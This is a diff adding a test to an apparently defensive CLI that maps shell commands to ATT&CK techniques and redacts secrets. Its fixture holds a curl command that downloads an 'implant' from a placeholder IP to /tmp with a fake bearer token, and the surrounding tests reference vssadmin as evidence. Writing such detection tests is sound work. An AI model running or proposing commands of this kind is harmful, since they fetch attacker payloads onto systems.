@@ -80,6 +80,21 @@ def test_map_cli_explain_adds_evidence_and_field_option(tmp_path: Path) -> None:
     assert top["id"] == "T1490" and "vssadmin" in top["evidence"] and top["mappers"]
 
 
+def test_map_cli_explain_never_exports_a_token(tmp_path: Path) -> None:
+    source = tmp_path / "in.jsonl"
+    token = "sk-live-0123456789abcdef0123"
+    command = f'curl -H "Authorization: Bearer {token}" https://203.0.113.7/implant -o /tmp/i'
+    source.write_text(json.dumps({"id": 1, "text": command}) + "\n")
+    result = CliRunner().invoke(
+        app, ["map", str(source), "-o", str(tmp_path / "o.jsonl"), "--explain"]
+    )
+    assert result.exit_code == 0, result.output
+    (line,) = [json.loads(x) for x in (tmp_path / "o.jsonl").read_text().splitlines()]
+    download = next(t for t in line["techniques"] if t["id"] == "T1105")
+    assert download["evidence"].startswith('curl -H "Authorization: Bearer [REDACTED')
+    assert token not in json.dumps(line)
+
+
 def test_map_cli_missing_input_is_a_clear_error(tmp_path: Path) -> None:
     result = CliRunner().invoke(app, ["map", str(tmp_path / "no.jsonl"), "-o", str(tmp_path / "o")])
     assert result.exit_code == 1
